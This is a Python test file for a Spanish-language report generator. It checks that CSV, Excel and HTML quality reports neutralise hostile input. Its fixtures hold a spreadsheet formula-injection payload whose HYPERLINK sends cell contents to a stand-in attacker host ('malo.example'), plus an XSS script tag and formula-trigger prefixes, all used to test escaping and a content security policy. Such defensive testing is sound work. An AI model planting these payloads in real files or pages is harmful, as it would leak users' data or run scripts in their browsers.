@@ -1,0 +1,218 @@
+"""The three report files as the control office opens them, built from rows written by hand."""
+
+import csv
+import datetime as dt
+import re
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from planmejora.calidad import escribir
+from planmejora.calidad.escapar import celda, hash_csp
+from planmejora.calidad.modelo import Accion, DocumentoIlegible, FilaProblema, Filtros, Reporte
+from planmejora.calidad.salida_html import html_de
+
+HIPERVINCULO = '=HYPERLINK("http://malo.example/robar?d="&A1,"Clic aquí")'
+GUION = "<script>alert('xss')</script>"
+
+
+def reporte() -> Reporte:
+    return Reporte(
+        base="sqlite:///planes.db",
+        corte=dt.date(2022, 6, 30),
+        generado=dt.datetime(2022, 7, 1, 8, 30),
+        filtros=Filtros(),
+        documentos=3,
+        problemas=[
+            FilaProblema(
+                "planes/calica.pdf",
+                "hallazgos[0].fecha_inicio",
+                "fecha_inferida",
+                "La fecha de inicio «004-21» no se puede leer; se dedujo de la terminación.",
+                raw="004-21",
+                valor="2021-09",
+                pagina=2,
+                fila=3,
+                dependencia="Secretaría de Planeación",
+            ),
+            FilaProblema(
+                "planes/guavio.xlsx",
+                "hallazgos[2].cumplimiento",
+                "valor_desconocido",
+                f"El cumplimiento dice {GUION}",
+                raw=HIPERVINCULO,
+                hoja="Plan 2022",
+                fila=14,
+                dependencia="Secretaría de Hacienda",
+            ),
+            FilaProblema(
+                "planes/guavio.xlsx",
+                "encabezado.fecha_suscripcion",
+                "fecha_corregida",
+                "Se leyó 21/09/2021.",
+                raw="21sept-21",
+                valor="2021-09-21",
+                hoja="Plan 2022",
+                fila=4,
+            ),
+        ],
+        acciones=[
+            Accion(
+                "planes/calica.pdf",
+                "Calica — planes/calica.pdf",
+                "1",
+                "Actualizar <b>inventario</b>",
+                "Secretaría de Planeación",
+                dt.date(2022, 1, 1),
+                "mes",
+                "abierta",
+                None,
+                None,
+            ),
+            Accion(
+                "planes/calica.pdf",
+                "Calica — planes/calica.pdf",
+                "2",
+                "Capacitar",
+                "Secretaría de Planeación",
+                dt.date(2022, 1, 1),
+                "mes",
+                "cerrada",
+                True,
+                True,
+            ),
+            Accion(
+                "planes/guavio.xlsx",
+                "Guavio — planes/guavio.xlsx",
+                "1",
+                "Conciliar",
+                "Secretaría de Hacienda",
+                dt.date(2022, 5, 4),
+                "dia",
+                None,
+                True,
+                False,
+            ),
+        ],
+        ilegibles=[DocumentoIlegible("planes/vacio.pdf", "El archivo está vacío (0 bytes).")],
+    )
+
+
+@pytest.mark.parametrize("texto", [HIPERVINCULO, "+57 300", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "  =1+1", "-5"])
+def test_un_texto_que_una_hoja_de_calculo_ejecutaria_queda_como_texto(texto: str) -> None:
+    assert celda(texto) == "'" + texto
+
+
+def test_un_texto_normal_queda_igual() -> None:
+    assert celda("21sept-21") == "21sept-21"
+    assert celda("Secretaría de Hacienda") == "Secretaría de Hacienda"
+    assert celda(None) == ""
+
+
+def test_csv_con_las_columnas_del_contrato_bom_y_una_fila_por_problema(tmp_path: Path) -> None:
+    ruta = tmp_path / "calidad.csv"
+    escribir(reporte(), ruta)
+    assert ruta.read_bytes().startswith(b"\xef\xbb\xbf")
+    with ruta.open(encoding="utf-8-sig", newline="") as archivo:
+        filas = list(csv.reader(archivo))
+    assert filas[0] == ["archivo", "ubicacion", "campo", "codigo", "raw", "valor", "mensaje"]
+    assert len(filas) == 1 + 3
+    assert filas[1] == [
+        "planes/calica.pdf",
+        "página 2, fila 3",
+        "hallazgos[0].fecha_inicio",
+        "fecha_inferida",
+        "004-21",
+        "2021-09",
+        "La fecha de inicio «004-21» no se puede leer; se dedujo de la terminación.",
+    ]
+    assert filas[2][1] == "hoja «Plan 2022», fila 14"
+    assert filas[2][4] == "'" + HIPERVINCULO
+    assert filas[2][5] == ""
+
+
+def test_xlsx_resumen_y_detalle_filtrables_con_fechas_de_excel(tmp_path: Path) -> None:
+    ruta = tmp_path / "calidad.xlsx"
+    escribir(reporte(), ruta)
+    libro = load_workbook(ruta)
+    assert libro.sheetnames[:2] == ["Resumen", "Problemas"]
+    assert {"Vencidas", "Seguimiento"} <= set(libro.sheetnames)
+
+    resumen = {fila[0]: fila[1] for fila in libro["Resumen"].iter_rows(values_only=True) if fila and fila[0]}
+    assert resumen["Problemas"] == 3 and resumen["Documentos"] == 3 and resumen["Acciones vencidas"] == 2
+    assert resumen["Fecha de corte"] == dt.datetime(2022, 6, 30)
+
+    detalle = libro["Problemas"]
+    assert detalle.freeze_panes == "A2"
+    assert detalle.auto_filter.ref == f"A1:I{1 + 3}"
+    assert detalle.column_dimensions["H"].width > detalle.column_dimensions["D"].width >= 10
+    encabezados = [c.value for c in detalle[1]]
+    raw = detalle.cell(3, encabezados.index("Valor escrito") + 1)
+    assert raw.value == "'" + HIPERVINCULO and raw.data_type == "s"
+    adoptado = detalle.cell(2, encabezados.index("Valor adoptado") + 1)
+    assert adoptado.value == dt.datetime(2021, 9, 1) and adoptado.is_date
+
+    vencidas = libro["Vencidas"]
+    assert vencidas.freeze_panes == "A2" and vencidas.auto_filter.ref
+    encabezados = [c.value for c in vencidas[1]]
+    filas = [dict(zip(encabezados, f, strict=True)) for f in vencidas.iter_rows(min_row=2, values_only=True)]
+    assert [(f["Dependencia"], f["Vence"], f["Días de atraso"]) for f in filas] == [
+        ("Secretaría de Hacienda", dt.datetime(2022, 5, 4), 57),
+        ("Secretaría de Planeación", dt.datetime(2022, 1, 31), 150),
+    ]
+    assert vencidas.cell(3, encabezados.index("Terminación") + 1).number_format == "MMM-YYYY"
+
+
+def test_ninguna_celda_del_libro_es_una_formula(tmp_path: Path) -> None:
+    ruta = tmp_path / "calidad.xlsx"
+    escribir(reporte(), ruta)
+    for hoja in load_workbook(ruta):
+        for fila in hoja.iter_rows():
+            assert all(c.data_type != "f" for c in fila)
+
+
+def test_html_autocontenido_sin_red_con_el_texto_escapado() -> None:
+    pagina = html_de(reporte())
+    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", pagina)
+    assert "<link" not in pagina
+    assert GUION not in pagina and "&lt;script&gt;alert(" in pagina
+    assert "<b>inventario</b>" not in pagina
+    assert pagina.count("<script>") == 1
+    assert HIPERVINCULO not in pagina
+
+
+def test_la_politica_de_seguridad_deja_correr_solo_el_guion_y_el_estilo_de_la_pagina() -> None:
+    pagina = html_de(reporte())
+    guion = re.search(r"<script>(.*?)</script>", pagina, re.S)
+    estilo = re.search(r"<style>(.*?)</style>", pagina, re.S)
+    assert guion and estilo
+    politica = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', pagina)
+    assert politica
+    assert "default-src 'none'" in politica.group(1).replace("&#39;", "'")
+    assert hash_csp(guion.group(1)) in politica.group(1).replace("&#39;", "'")
+    assert hash_csp(estilo.group(1)) in politica.group(1).replace("&#39;", "'")
+    assert "unsafe-inline" not in politica.group(1)
+
+
+def test_html_totales_primero_y_problemas_agrupados_por_archivo() -> None:
+    pagina = html_de(reporte())
+    assert pagina.index('data-total="problemas">3<') < pagina.index("Problemas por archivo")
+    assert 'data-total="vencidas">2<' in pagina
+    calica, guavio = pagina.index("<h3>planes/calica.pdf"), pagina.index("<h3>planes/guavio.xlsx")
+    assert calica < guavio
+    assert pagina.index("página 2, fila 3") < guavio < pagina.index("hoja «Plan 2022», fila 14")
+    assert "El archivo está vacío (0 bytes)." in pagina
+
+
+def test_html_sin_problemas_lo_dice() -> None:
+    vacio = reporte()
+    vacio.problemas = []
+    pagina = html_de(vacio)
+    assert 'data-total="problemas">0<' in pagina
+    assert "No hay problemas que mostrar." in pagina
+
+
+def test_una_extension_desconocida_se_explica(tmp_path: Path) -> None:
+    with pytest.raises(ValueError, match=r"\.html, \.xlsx o \.csv"):
+        escribir(reporte(), tmp_path / "calidad.pdf")
